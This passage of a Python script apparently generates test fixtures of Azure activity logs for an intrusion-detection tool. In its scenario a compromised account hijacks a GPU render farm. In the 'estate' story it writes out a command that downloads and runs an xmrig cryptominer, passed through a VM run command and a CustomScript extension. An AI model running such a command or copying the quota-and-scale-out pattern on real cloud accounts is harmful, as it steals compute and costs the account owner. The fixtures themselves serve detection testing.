    t = dt.datetime.strptime(rec["operationDate"][:26], "%Y-%m-%dT%H:%M:%S.%f")
    return {"time": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "operation_type": rec["operationType"],
            "resource_type": rec["resourceType"], "status": rec["operationStatus"],
            "user_principal_name": rec["userPrincipalName"],
            "customer_id": rec.get("customerId"), "partner_id": rec["partnerId"],
            "order_id": order, "subscription_ids": subs, "record_id": rec["id"]}


# --------------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------------

WRITTEN = []  # (path, bytes) for the size report


def write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    WRITTEN.append((path, len(data)))


def sub_of(ev):
    return rid_info(ev["rid"])[0]


def chronological(events):
    return sorted(events, key=lambda e: (e["time"], e["edid"]))


def newest_first(events):
    return sorted(events, key=lambda e: (e["time"], e["edid"]), reverse=True)


def write_export_jsonl(out):
    """Storage-account layout: one PT1H.json (JSON Lines) per subscription and hour of arrival."""
    blobs = {}
    for ev in sorted(EVENTS, key=lambda e: (e["sub_time"], e["edid"])):
        a = ev["sub_time"]
        path = (f"insights-activity-logs/resourceId=/SUBSCRIPTIONS/{sub_of(ev).upper()}/"
                f"y={a.year}/m={a.month:02d}/d={a.day:02d}/h={a.hour:02d}/m=00/PT1H.json")
        blobs.setdefault(path, []).append(cjson(export_record(ev)))
    files = []
    for path in sorted(blobs):
        write(out / path, "".join(line + "\n" for line in blobs[path]))
        files.append(path)
    return files, len(EVENTS)


def eh_batches(events, limit=10, gap_s=90):
    batches, cur, last = [], [], None
    for ev in events:
        if cur and (len(cur) >= limit or (ev["sub_time"] - last).total_seconds() > gap_s):
            batches.append(cur)
            cur = []
        cur.append(ev)
        last = ev["sub_time"]
    if cur:
        batches.append(cur)
    return batches


def write_eventhub(out):
    """Event Hub messages: {"records":[...]} per message, one message per line; the clean-up
    day is one pretty-printed message in its own file."""
    arrival = sorted(EVENTS, key=lambda e: (e["sub_time"], e["edid"]))
    cleanup_day = dt.date(2026, 10, 14)
    p0 = [e for e in arrival if sub_of(e) == S1 and e["time"].date() != cleanup_day]
    p1 = [e for e in arrival if sub_of(e) == S2]
    cleanup = [e for e in arrival if sub_of(e) == S1 and e["time"].date() == cleanup_day]
    files = []
    for name, evs in (("partition-0.jsonl", p0), ("partition-1.jsonl", p1)):
        lines = [cjson({"records": [export_record(e, eventhub=True) for e in batch]})
                 for batch in eh_batches(evs)]
        write(out / name, "".join(line + "\n" for line in lines))
        files.append(name)
    name = "partition-0-message-2026-10-14.json"
    write(out / name, json.dumps({"records": [export_record(e, eventhub=True) for e in cleanup]},
                                 indent=2, ensure_ascii=False) + "\n")
    files.append(name)
    return files, len(p0) + len(p1) + len(cleanup)


def gz(data):
    """Deterministic gzip (mtime 0, no file name) so reruns stay byte-identical."""
    return gzip.compress(data.encode("utf-8") if isinstance(data, str) else data, 9, mtime=0)


def write_rest_array(out):
    """az CLI output saved by the investigator and gzipped (keeps the fixtures under 2 MB and
    exercises the gzip input path); inside: one pretty-printed array, newest first."""
    name = "az-monitor-activity-log-list.json.gz"
    write(out / name, gz(json.dumps([rest_record(e) for e in newest_first(EVENTS)], indent=2,
                                    ensure_ascii=False) + "\n"))
    return [name], len(EVENTS)


def next_link(sub, page):
    token = htext(48, B64URL, "skiptoken", sub, str(page))
    return (f"https://management.azure.com/subscriptions/{sub}/providers/microsoft.insights/"
            f"eventtypes/management/values?api-version=2015-04-01&$filter=eventTimestamp+ge+"
            f"%272026-09-01T00%3a00%3a00Z%27+and+eventTimestamp+le+%272026-10-15T00%3a00%3a00Z%27"
            f"&$skiptoken={token}")


def write_rest_pages(out, page_size=25):
    """{"value":[...],"nextLink":...} pages, newest first. S1: pages 1 and 2 concatenated in one
    file, then one page per file (the last page has no nextLink). S2: one page, nextLink null."""
    files, count = [], 0
    s1 = newest_first([e for e in EVENTS if sub_of(e) == S1])
    pages = [s1[i:i + page_size] for i in range(0, len(s1), page_size)]
    texts = []
    for n, page in enumerate(pages, 1):
        body = {"value": [rest_record(e) for e in page]}
        if n < len(pages):
            body["nextLink"] = next_link(S1, n + 1)
        texts.append(cjson(body) + "\n")
        count += len(page)
    name = f"subscription-{S1}-pages-1-2.json"
    write(out / name, texts[0] + texts[1])
    files.append(name)
    for n in range(3, len(pages) + 1):
        name = f"subscription-{S1}-page-{n}.json"
        write(out / name, texts[n - 1])
        files.append(name)
    s2 = newest_first([e for e in EVENTS if sub_of(e) == S2])
    name = f"subscription-{S2}-page-1.json"
    write(out / name, cjson({"value": [rest_record(e) for e in s2], "nextLink": None}) + "\n")
    files.append(name)
    return files, count + len(s2)


def write_sdk(out):
    """A collection script's JSON Lines per subscription, gzipped (size budget)."""
    files = []
    for sub in (S1, S2):
        name = f"activity-{sub}.jsonl.gz"
        evs = newest_first([e for e in EVENTS if sub_of(e) == sub])
        write(out / name, gz("".join(cjson(sdk_record(e)) + "\n" for e in evs)))
        files.append(name)
    return files, len(EVENTS)


def write_la_query(out):
    """Query API results, one file per month, rows in time order. September rows have the
    *_d columns null; October rows have Authorization_d and Claims_d as objects."""
    files, written = [], 0
    for month in sorted({e["time"].month for e in EVENTS}):
        name, dynamic = f"azureactivity-2026-{month:02d}.json", month >= 10
        evs = chronological([e for e in EVENTS if e["time"].month == month])
        written += len(evs)
        doc = {"tables": [{"name": "PrimaryResult",
                           "columns": [{"name": c, "type": t} for c, t in LA_QUERY_COLUMNS],
                           "rows": [la_query_row(e, dynamic) for e in evs]}]}
        write(out / name, cjson(doc) + "\n")
        files.append(name)
    return files, written


def csv_text(header, rows):
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    for r in rows:
        w.writerow(r)
    return buf.getvalue()


def write_la_csv(out):
    """Portal "Export to CSV (all columns)" file, gzipped for the size budget; inside: BOM,
    CRLF, newest first."""
    name = "query_data.csv.gz"
    rows = [la_csv_row(e) for e in newest_first(EVENTS)]
    write(out / name, gz("\ufeff" + csv_text(CSV_COLUMNS, rows)))
    return [name], len(EVENTS)


def write_partner_center(out, recs):
    """Two API pages (records up to 2026-10-10, newest first) and a JSON Lines file of the items
    pulled later (2026-10-11..2026-10-15). Every record appears exactly once in the folder."""
    early, late = recs[:5], recs[5:]
    newest = list(reversed(early))
    pages = [newest[:3], newest[3:]]
    query = "/auditrecords?startDate=2026-09-01&endDate=2026-10-10&size=3"
    files = []
    for n, items in enumerate(pages, 1):
        links = {"self": {"uri": query, "method": "GET", "headers": []}}
        if n < len(pages):
            links["next"] = {"uri": query, "method": "GET", "headers": [
                {"key": "MS-ContinuationToken", "value": htext(40, B64URL, "pc-cont", str(n))}]}
        body = {"totalCount": len(early), "items": items, "links": links,
                "attributes": {"objectType": "Collection"}}
        name = f"auditrecords-2026-09-01_2026-10-10-page-{n}.json"
        write(out / name, json.dumps(body, indent=2, ensure_ascii=False) + "\n")
        files.append(name)
    name = "auditrecords-2026-10-11_2026-10-15.jsonl"
    write(out / name, "".join(cjson(r) + "\n" for r in late))
    files.append(name)
    return files, len(recs)


# --------------------------------------------------------------------------------------------
# expected.json
# --------------------------------------------------------------------------------------------


# --------------------------------------------------------------------------------------------
# The estate scenario: an intrusion on resources created before the logs
# --------------------------------------------------------------------------------------------

ESTATE_DIR = FIXTURES / "scenarios" / "estate"
IP_AUTOMATION = "192.0.2.80"
SP_PATCH = Who("sp-patch", "sp", oid=gid("oid", "sp-nightly-patching"),
               appid=gid("appid", "fab-nightly-patching"), appidacr="1", ip=IP_AUTOMATION,
               role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
               ra_id=gid("role-assignment", "patch-contrib"))
# Lena's calls carry two grants in their evidence: her own Contributor assignment (made before
# the logs: only the evidence names it) for the new VM, and the render-ops group's Contributor
# assignment, whose only record in the logs is its Start, for everything on the render farm.
U_LENA = Who("u-lena", "user", upn=f"lena.novak@{CUSTOMER_DOMAIN}", given="Lena", surname="Novak",
             oid=gid("oid", "lena"), appid=AZURE_CLI_APP, appidacr="0", amr="pwd",
             ip=IP_ATTACKER_USER, role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
             ra_id=gid("role-assignment", "lena-contrib"))
class Guest(Who):
    """A B2B guest: a user of another tenant invited into this one. Its token is issued by this
    tenant (tid) but names the home tenant in idp, and carries no upn: unique_name, email and
    name identify it. The `caller` field holds its object id."""

    def __init__(self, key, *, home, mail, **kw):
        super().__init__(key, "user", upn=None, **kw)
        self.home, self.mail = home, mail

    @property
    def caller(self):
        return self.oid

    def claims(self, t):
        c = super().claims(t)
        for k in ("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn",
                  "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name"):
            c.pop(k, None)
        c["unique_name"] = self.mail
        c["email"] = self.mail
        c["idp"] = f"https://sts.windows.net/{self.home}/"
        return c

    def evidence(self):
        e = super().evidence()
        e["principalType"] = "User"
        return e

    def expected(self):
        e = super().expected()
        e.update({"name": self.mail, "type": "user", "foreign_tenant": True,
                  "home_tenant": self.home})
        return e


GUEST_HOME = gid("tenant", "contoso-partners")
G_ANA = Guest("g-ana", home=GUEST_HOME, mail="ana.silva@contoso-partners.com", given="Ana",
              surname="Silva", oid=gid("oid", "guest-ana"), appid=AZURE_PORTAL_APP,
              appidacr="2", amr="pwd", ip="203.0.113.77", role_def=CONTRIBUTOR,
              ra_scope=f"/subscriptions/{S1}", ra_id=gid("role-assignment", "ana-contrib"))
class ManagedIdentity(Who):
    """A system-assigned managed identity: an app-only token whose xms_mirid claim names the
    resource that owns the identity (the host whose code obtained the token)."""

    def __init__(self, key, *, host, **kw):
        super().__init__(key, "sp", **kw)
        self.host = host

    def claims(self, t):
        c = super().claims(t)
        c["xms_mirid"] = self.host
        c["xms_az_rid"] = self.host
        return c

    def expected(self):
        e = super().expected()
        e.update({"type": "managed_identity", "identity_resource": self.host.lower()})
        return e


# The CI build agent, a VM created long before the logs (none of its records are in them). Its
# system-assigned identity holds Contributor on rg-ci (an assignment made before the logs, named
# only by the calls' evidence).
CI_HOST = f"/subscriptions/{S1}/resourceGroups/rg-ci/providers/Microsoft.Compute/virtualMachines/build-agent-01"
MI_BUILD_AGENT = ManagedIdentity("mi-build-agent", host=CI_HOST, oid=gid("oid", "mi-build-agent"),
                                 appid=gid("appid", "mi-build-agent"), appidacr="2",
                                 ip="10.20.0.4", role_def=CONTRIBUTOR,
                                 ra_scope=f"/subscriptions/{S1}/resourceGroups/rg-ci",
                                 ra_id=gid("role-assignment", "mi-build-agent-contrib"))
# A training pipeline's service principal, onboarded on 2026-11-19 by Marco (MFA, from the
# address he used before) under a change ticket; it creates a GPU cluster every week.
CHANGE_TICKET = "CHG0041234"
RA_ML = gid("role-assignment", "ml-pipeline-contrib")
SP_ML = Who("sp-ml", "sp", oid=gid("oid", "sp-ml-training"), appid=gid("appid", "fab-ml-training"),
            appidacr="2", ip="192.0.2.90", role_def=CONTRIBUTOR,
            ra_scope=f"/subscriptions/{S1}/resourceGroups/rg-ml", ra_id=RA_ML)
GROUP_RENDER_OPS = gid("oid", "group-render-ops")
RA_GROUP = gid("role-assignment", "render-ops-contrib")
U_LENA_VIA_GROUP = Who("u-lena", "user", upn=U_LENA.upn, given="Lena", surname="Novak",
                       oid=U_LENA.oid, appid=AZURE_CLI_APP, appidacr="0", amr="pwd",
                       ip=IP_ATTACKER_USER, role_def=CONTRIBUTOR,
                       ra_scope=f"/subscriptions/{S1}/resourceGroups/rg-render-prod",
                       ra_id=RA_GROUP, grantee=(GROUP_RENDER_OPS, "Group"))


def write_estate_story():
    """A render farm created long before the 90 days of logs (nothing of its creation is in
    them): three GPU VMs and a scale set (capacity 2) that a patching service principal runs
    commands on and tags every night. A compromised user (password only, the foreign address)
    requests GPU quota, runs a miner through a run command on render-02, installs one through a
    new CustomScript extension on render-03, scales the set from 2 to 200 and creates one new
    Spot GPU VM. Only the extension and the new VM are creations; the rest existed before the
    logs. The user's rights: for the new VM her own Contributor assignment, known only from
    the calls' authorization evidence; for the farm the render-ops group's assignment, of which
    the logs keep only the Start. A guest from a partner tenant creates one GPU VM of her own.
    Returns the expectations (expected.json)."""
    rg = "rg-render-prod"
    vms = {n: res_id(S1, rg, f"Microsoft.Compute/virtualMachines/{n}")
           for n in ("render-01", "render-02", "render-03")}
    vmss = res_id(S1, rg, "Microsoft.Compute/virtualMachineScaleSets/vmss-render")
    run_op = "Microsoft.Compute/virtualMachines/runCommand/action"
    vmss_op = "Microsoft.Compute/virtualMachineScaleSets/write"
    patch_body = {"commandId": "RunShellScript",
                  "script": ["apt-get update && apt-get -y -q upgrade && needrestart -r a"]}
    first_seen = {}
    for day in range(14, 19):  # five nights, before and after the intrusion (on the 16th)
        for i, (name, rid) in enumerate(sorted(vms.items())):
            t = f"2026-11-{day:02d}T02:{i * 7 + 3:02d}:1{i}.{100 + day * 7:03d}"
            o = operation(f"patch-{name}-{day}", SP_PATCH, rid, run_op, t,
                          ASYNC_ACCEPTED(410 + i, 61_000 + day * 100), req=patch_body,
                          method="POST")
            first_seen.setdefault(rid, o["start"])
        # The nightly tag PATCH: its 200 response carries the whole model, the capacity with it
        # (2 until the intrusion scales the set to 200 on the 16th at 22:20).
        t = f"2026-11-{day:02d}T02:30:05.{200 + day:03d}"
        capacity = 2 if day <= 16 else 200
        o = operation(f"tag-vmss-{day}", SP_PATCH, vmss, vmss_op, t, SYNC_OK(1_870 + day),
                      req={"tags": {"patched": f"2026-11-{day:02d}"}}, method="PATCH",
                      resp={"name": "vmss-render", "id": vmss,
                            "type": "Microsoft.Compute/virtualMachineScaleSets",
                            "location": "westeurope", "tags": {"patched": f"2026-11-{day:02d}"},
                            "sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard",
                                    "capacity": capacity},
                            "properties": {"provisioningState": "Succeeded"}})
        first_seen.setdefault(vmss, o["start"])
    # 2026-11-15: an administrator grants the render-ops group (Lena is a member) Contributor on
    # the resource group; the logs keep only the Start of that grant.
    group_scope = f"/subscriptions/{S1}/resourceGroups/{rg}"
    grant_rid = f"{group_scope}/providers/Microsoft.Authorization/roleAssignments/{RA_GROUP}"
    grant = operation("estate-group-grant", U_DEVOPS, grant_rid,
                      "Microsoft.Authorization/roleAssignments/write", "2026-11-15T16:02:44.120",
                      [("Start", 0, None)],
                      req={"Id": RA_GROUP, "Properties": {
                          "PrincipalId": GROUP_RENDER_OPS, "PrincipalType": "Group",
                          "RoleDefinitionId": f"/subscriptions/{S1}/providers/"
                                              f"Microsoft.Authorization/roleDefinitions/{CONTRIBUTOR}",
                          "Scope": group_scope, "Condition": None, "ConditionVersion": None}})
    # The intrusion, 2026-11-16 evening.
    quota = operation("estate-quota", U_LENA,
                      f"/subscriptions/{S1}/providers/Microsoft.Capacity/resourceProviders/"
                      f"Microsoft.Compute/locations/westeurope/serviceLimits/standardNVADSA10v5Family",
                      "Microsoft.Capacity/resourceProviders/locations/serviceLimits/write",
                      "2026-11-16T21:40:12.311", ASYNC_ACCEPTED(905, 38_114),
                      req={"properties": {"limit": 720, "name": {"value": "standardNVADSA10v5Family"},
                                          "resourceType": "dedicated"}})
    miner = (f"curl -fsSL {MINER_TGZ} | tar xz -C /var/tmp && /var/tmp/xmrig -o {POOL_A} "
             f"-u {WALLET} -k --donate-level 1 -B")
    run = operation("estate-run", U_LENA_VIA_GROUP, vms["render-02"], run_op, "2026-11-16T22:05:41.918",
                    ASYNC_ACCEPTED(377, 95_002),
                    req={"commandId": "RunShellScript", "script": [miner]}, method="POST")
    ext_rid = vms["render-03"] + "/extensions/gpu-tuning"
    ext_req = ext_request("westeurope", "Microsoft.Azure.Extensions", "CustomScript", "2.1",
                          {"commandToExecute": miner})
    ext = operation("estate-ext", U_LENA_VIA_GROUP, ext_rid,
                    "Microsoft.Compute/virtualMachines/extensions/write",
                    "2026-11-16T22:12:07.440", ASYNC_CREATE(1_204, 88_310), req=ext_req,
                    resp=ext_response(ext_rid, ext_req))
    scale = operation("estate-scale", U_LENA_VIA_GROUP, vmss, vmss_op, "2026-11-16T22:20:55.063",
                      SYNC_OK(2_411),
                      req={"sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard",
                                   "capacity": 200}}, method="PATCH")
    nic = res_id(S1, rg, "Microsoft.Network/networkInterfaces/render-04-nic")
    vm4 = res_id(S1, rg, "Microsoft.Compute/virtualMachines/render-04")
    t4 = at("2026-11-17T00:14:33.702")
    vm4_req = vm_request("westeurope", "Standard_NV36ads_A10_v5", nic, image=IMG_UBUNTU,
                         priority="Spot")
    new_vm = operation("estate-vm", U_LENA, vm4, "Microsoft.Compute/virtualMachines/write", t4,
                       ASYNC_CREATE(1_650, 141_200), req=vm4_req,
                       resp=vm_response(vm4, vm4_req, plus_ms(t4, 1_600)))

    group_grant = {"source": "record", "completion": "unknown",
                   "role_assignment_id": grant_rid.lower(), "role": "Contributor",
                   "principal_id": GROUP_RENDER_OPS, "principal_type": "Group",
                   "scope": group_scope.lower(), "name": U_DEVOPS.upn, "at": rfc_us(grant["start"])}
    own_grant = {"source": "evidence", "completion": None,
                 "role_assignment_id": f"/subscriptions/{S1}/providers/microsoft.authorization/"
                                       f"roleassignments/{U_LENA.ra_id}",
                 "role": "Contributor", "principal_id": U_LENA.oid, "principal_type": "User",
                 "scope": f"/subscriptions/{S1}", "name": None, "at": None}

    # 2026-11-17: a guest contractor (another tenant's user) creates a GPU VM through the portal.
    nic5 = res_id(S1, rg, "Microsoft.Network/networkInterfaces/render-05-nic")
    vm5 = res_id(S1, rg, "Microsoft.Compute/virtualMachines/render-05")
    t5 = at("2026-11-17T10:41:09.228")
    vm5_req = vm_request("westeurope", "Standard_NV36ads_A10_v5", nic5, image=IMG_UBUNTU)
    guest_vm = operation("estate-guest-vm", G_ANA, vm5, "Microsoft.Compute/virtualMachines/write",
                         t5, ASYNC_CREATE(1_320, 128_004), req=vm5_req,
                         resp=vm_response(vm5, vm5_req, plus_ms(t5, 1_300)))

    # 2026-11-17: code on the CI build agent (a VM not otherwise in the logs) uses the agent's
    # managed identity to create an uncapped Spot GPU VM.
    ci_nic = res_id(S1, "rg-ci", "Microsoft.Network/networkInterfaces/ci-gpu-runner-nic")
    ci_vm = res_id(S1, "rg-ci", "Microsoft.Compute/virtualMachines/ci-gpu-runner")
    t_ci = at("2026-11-17T03:12:48.551")
    ci_req = vm_request("westeurope", "Standard_NC24ads_A100_v4", ci_nic, image=IMG_UBUNTU,
                        priority="Spot")
    mi_vm = operation("estate-mi-vm", MI_BUILD_AGENT, ci_vm,
                      "Microsoft.Compute/virtualMachines/write", t_ci, ASYNC_CREATE(1_410, 133_870),
                      req=ci_req, resp=vm_response(ci_vm, ci_req, plus_ms(t_ci, 1_400)))

    # 2026-11-19: Marco grants the training pipeline Contributor on rg-ml under a change ticket;
    # from the next day it creates a GPU cluster each week (four weeks in the logs).
    ml_scope = f"/subscriptions/{S1}/resourceGroups/rg-ml"
    ml_grant_rid = f"{ml_scope}/providers/Microsoft.Authorization/roleAssignments/{RA_ML}"
    ml_grant = operation("estate-ml-grant", U_DEVOPS, ml_grant_rid,
                         "Microsoft.Authorization/roleAssignments/write", "2026-11-19T14:30:02.310",
                         SYNC_CREATE(1_204),
                         req={"Id": RA_ML, "Properties": {
                             "PrincipalId": SP_ML.oid, "PrincipalType": "ServicePrincipal",
                             "RoleDefinitionId": f"/subscriptions/{S1}/providers/Microsoft."
                                                 f"Authorization/roleDefinitions/{CONTRIBUTOR}",
                             "Scope": ml_scope,
                             "Description": f"Training pipeline onboarding, approved in "
                                            f"{CHANGE_TICKET}"}})
    ml_runs = []
    for week, day in enumerate(("2026-11-20", "2026-11-27", "2026-12-04", "2026-12-11")):
        crid = res_id(S1, "rg-ml", f"Microsoft.MachineLearningServices/workspaces/ws-train/"
                                   f"computes/gpu-train-w{week + 1}")
        body = {"location": "westeurope", "tags": {"change": CHANGE_TICKET},
                "properties": {"computeType": "AmlCompute", "properties": {
                    "vmSize": "Standard_NC6s_v3", "vmPriority": "Dedicated",
                    "scaleSettings": {"minNodeCount": 0, "maxNodeCount": 4}}}}
        ml_runs.append(operation(f"estate-ml-run-{week}", SP_ML, crid,
                                 "Microsoft.MachineLearningServices/workspaces/computes/write",
                                 f"{day}T09:00:1{week}.4{week}0", ASYNC_CREATE(980, 62_500 + week),
                                 req=body))
    ml_grant_expected = {"source": "record", "completion": None,
                         "role_assignment_id": ml_grant_rid.lower(), "role": "Contributor",
                         "principal_id": SP_ML.oid, "principal_type": "ServicePrincipal",
                         "scope": ml_scope.lower(), "name": U_DEVOPS.upn,
                         "at": rfc_us(ml_grant["start"])}

    def existing(rid, severity, act_op, **more):
        sub, rgn, _, rtype, name = rid_info(rid)
        return {"resource_id": rid.lower(), "resource_type": rtype.lower(), "name": name,
                "status": "pre-existing", "pre_existing": True, "severity": severity,
                "created_at": None, "created_by": None, "creation_evidence": None,
                "first_seen": rfc_us(first_seen[rid]), "actor": U_LENA.expected(),
                "act": act_op["op"].lower(), "acted_at": rfc_us(act_op["start"]),
                "contain": "stop, never delete", **more}

    def created(op, severity, evidence, who=U_LENA, **more):
        sub, rgn, _, rtype, name = rid_info(op["rid"])
        return {"resource_id": op["rid"].lower(), "resource_type": rtype.lower(), "name": name,
                "status": "created", "pre_existing": False, "severity": severity,
                "created_at": rfc_us(op["start"]), "created_by": who.expected(),
                "creation_evidence": evidence, "actor": None, **more}

    return {
        "schema_version": 1,
        "generated_by": "scripts/gen_fixtures.py (do not hand-edit)",
        "scenario": "estate",
        "summary": write_estate_story.__doc__.split("Returns")[0].strip().replace("\n    ", " "),
        "resources": [
            existing(vms["render-02"], "high", run, authorized_by=group_grant),
            existing(vms["render-03"], "high", ext),
            created(ext, "high", "answered 201 Created", authorized_by=group_grant),
            existing(vmss, "high", scale, authorized_by=group_grant,
                     size_changes={"capacity": {"before": "2", "after": "200",
                                                "by": U_LENA.upn, "at": rfc_us(scale["start"])}},
                     details={"capacity": "200"}),
            created(new_vm, "high", "answered 201 Created", authorized_by=own_grant),
            # A guest's GPU VM with no preparation: medium (a principal of another tenant),
            # named by its unique_name, never by the portal's app id.
            created(guest_vm, "medium", "answered 201 Created", who=G_ANA),
            # A managed identity's creation names the identity's owner, itself a finding: the
            # host to isolate (it existed before the logs: stopped, never deleted).
            created(mi_vm, "high", "answered 201 Created", who=MI_BUILD_AGENT,
                    identity_host=CI_HOST.lower()),
            {"resource_id": CI_HOST.lower(), "resource_type": "microsoft.compute/virtualmachines",
             "name": "build-agent-01", "status": "pre-existing", "pre_existing": True,
             "severity": "high", "created_at": None, "created_by": None,
             "creation_evidence": None, "first_seen": rfc_us(mi_vm["start"]), "actor": None,
             "act": None, "acted_at": None, "identity_used_for": [ci_vm.lower()],
             "contain": "stop, never delete"},
            # The pipeline's first GPU run, a day after its grant: the grant reads as onboarding
            # (MFA admin, known address, change ticket, weekly runs), so it is not high.
            created(ml_runs[0], "medium", "answered 201 Created", who=SP_ML,
                    authorized_by=ml_grant_expected, grant_in_every_shape=True,
                    reasons_contain=["weighed as onboarding", CHANGE_TICKET,
                                     "again in 3 later weeks"],
                    details={"vm_size": "Standard_NC6s_v3", "change_ticket": CHANGE_TICKET}),
        ],
        # The shapes that carry identity.authorization.evidence (REST and SDK EventData do not:
        # there no grant can be tied to the caller, and authorized_by is null).
        "evidence_shapes": ["eventhub-records", "export-jsonl", "la-csv", "la-query"],
        # Routine automation only: never reported above low, never an actor.
        "routine": [{"resource_id": vms["render-01"].lower(), "principal": SP_PATCH.appid}],
        "preparation": [{"operation": quota["op"].lower(), "resource_id": quota["rid"].lower(),
                         "by": U_LENA.upn}],
    }


def write_estate(writers):
    """Renders the estate story in every activity-log shape under scenarios/estate/."""
    global EVENTS, OPS
    saved = EVENTS, OPS
    EVENTS, OPS = [], {}
    try:
        expected = write_estate_story()
        shapes = {}
        for folder, fn, kind in writers:
            files, n = fn(ESTATE_DIR / folder)
            assert n == len(EVENTS), folder
            shapes[folder] = {"source_kind": kind, "files": files, "activity_records": n}
        expected["shapes"] = shapes
        write(ESTATE_DIR / "expected.json",
              json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    finally:
        EVENTS, OPS = saved



# --------------------------------------------------------------------------------------------
# scenarios/overlap: the intrusion in four overlapping exports (event identity, deduplication)
# --------------------------------------------------------------------------------------------

OVERLAP_DIR = FIXTURES / "scenarios" / "overlap"

# Each export covers a window of the intrusion's records in time order ([start, end) indexes),
# and writes times at its own precision. In input (path) order: the Event Hub dump (7 digits, no
# eventDataId, no operationId), the portal CSV (ms, locale times), the az CLI array (7 digits),
# the SDK JSON Lines (7 digits). The first records are only in the CSV (so ms is all there is);
# where the CSV comes first and a 7-digit copy follows, the µs time must win. An end of None is
# the last record (the scenario grows; the windows still cover every record).
OVERLAP_WINDOW_SPEC = {"eventhub-records": (45, None), "la-csv": (0, 66), "rest-array": (12, 70),
                       "sdk-jsonl": (62, None)}
OVERLAP_WINDOWS = {}  # the spec resolved against the intrusion's record count (write_overlap)
OVERLAP_DIGITS = {"eventhub-records": 6, "la-csv": 3, "rest-array": 6, "sdk-jsonl": 6}


def overlap_time(t):
    """The intrusion's times are whole ms: a sub-ms part per time, so precision shows."""
    return t + dt.timedelta(microseconds=hint(1, 999, "overlap-jitter", rfc_us(t)))


def overlap_events():
    """The intrusion's records in time order, with sub-ms times."""
    return [dict(e, time=overlap_time(e["time"])) for e in chronological(EVENTS)]


def write_overlap_file(folder, evs):
    out = OVERLAP_DIR / folder
    if folder == "eventhub-records":
        name = "partition-0.jsonl.gz"
        lines = [cjson({"records": [export_record(e, eventhub=True) for e in batch]})
                 for batch in eh_batches(evs)]
        write(out / name, gz("".join(line + "\n" for line in lines)))
    elif folder == "la-csv":
        name = "query_data.csv.gz"
        write(out / name, gz("\ufeff" + csv_text(CSV_COLUMNS, [la_csv_row(e) for e in evs])))
    elif folder == "rest-array":
        name = "az-monitor-activity-log-list.json.gz"
        write(out / name, gz(json.dumps([rest_record(e) for e in reversed(evs)], indent=2,
                                        ensure_ascii=False) + "\n"))
    else:
        name = "activity.jsonl.gz"
        write(out / name, gz("".join(cjson(sdk_record(e)) + "\n" for e in evs)))
    return f"{folder}/{name}"


def overlap_expected(intrusion_expected, evs, files):
    """Ground truth of the overlap: the intrusion's findings with each time from its most
    precise copy, the per-file duplicates, unique counts per principal, evidence files."""
    best = {}  # original time -> the time minetrace must report
    for i, e in enumerate(evs):
        digits = max(OVERLAP_DIGITS[f] for f, (a, b) in OVERLAP_WINDOWS.items() if a <= i < b)
        t = e["time"] if digits == 6 else e["time"].replace(microsecond=e["time"].microsecond
                                                             // 1000 * 1000)
        orig = rfc_us(e["time"].replace(microsecond=e["time"].microsecond // 1000 * 1000))
        assert best.get(orig, rfc_us(t)) == rfc_us(t), orig
        best[orig] = rfc_us(t)

    # The findings worth comparing (the low ones are the intrusion test's business): the times
    # as they must read; every other field is the intrusion's (its expected.json).
    resources = []
    for r in intrusion_expected["resources"]:
        if r["severity"] == "low":
            continue
        rid = r["resource_id"]
        resources.append({
            "resource_id": rid,
            **{k: best.get(r[k], r[k]) for k in ("created_at", "completed_at", "deleted_at")},
            "evidence_in": sorted(f for f, (a, b) in OVERLAP_WINDOWS.items()
                                  if any(e["rid"].lower() == rid for e in evs[a:b])),
            "records": sum(1 for f, (a, b) in OVERLAP_WINDOWS.items()
                           for e in evs[a:b] if e["rid"].lower() == rid)})
    per_file, seen = {}, set()
    for folder in sorted(OVERLAP_WINDOWS):
        a, b = OVERLAP_WINDOWS[folder]
        per_file[files[folder]] = {"records": b - a,
                                   "duplicates": sum(1 for i in range(a, b) if i in seen)}
        seen.update(range(a, b))
    assert seen == set(range(len(evs)))
    principals = {}
    for e in evs:
        p = principals.setdefault(e["who"].oid.lower(), {"events": 0, "failures": 0})
        p["events"] += 1
        p["failures"] += e["phase"] == "Failure"
    return {
        "schema_version": 1, "scenario": "overlap",
        "summary": "the intrusion in four overlapping exports (gen_fixtures.py)",
        "windows": {f: {"first": a, "end": b, "fraction_digits": OVERLAP_DIGITS[f]}
                    for f, (a, b) in sorted(OVERLAP_WINDOWS.items())},
        "files": per_file, "unique_events": len(evs), "principals": principals,
        "resources": resources,
    }


def write_overlap(intrusion_expected):
    """Renders scenarios/overlap/ from the intrusion's records (call after write_story)."""
    evs = overlap_events()
    OVERLAP_WINDOWS.clear()
    OVERLAP_WINDOWS.update({f: (a, len(evs) if b is None else b)
                            for f, (a, b) in OVERLAP_WINDOW_SPEC.items()})
    files = {f: write_overlap_file(f, evs[a:b]) for f, (a, b) in OVERLAP_WINDOWS.items()}
    write(OVERLAP_DIR / "expected.json", overlap_json(overlap_expected(intrusion_expected, evs,
                                                                       files)))


def overlap_json(doc):
    """One line per top-level key, and per entry of a top-level list or map (size budget)."""
    def one(v):
        return json.dumps(v, ensure_ascii=False, separators=(",", ":"))
    parts = []
    for k, v in doc.items():
        if isinstance(v, list):
            v = "[\n  " + ",\n  ".join(one(x) for x in v) + "\n ]"
        elif isinstance(v, dict):
            v = "{\n  " + ",\n  ".join(f"{one(a)}:{one(b)}" for a, b in v.items()) + "\n }"
        else:
            v = one(v)
        parts.append(f" {one(k)}: {v}")
    return "{\n" + ",\n".join(parts) + "\n}\n"


def expected_resource(rid_lower, ann, ra_op):
    op = ann["op"]
    who = op["who"]
    sub, rg, _, rtype, name = rid_info(op["rid"])
    failed = op["final"] == "Failure"
    deleted = ann["delete"]
    out = {
        "resource_id": rid_lower,
        "resource_type": rtype.lower(),
        "name": name,
        "subscription_id": sub,
        "resource_group": rg.lower() or None,
        "status": "failed" if failed else ("deleted" if deleted else "created"),
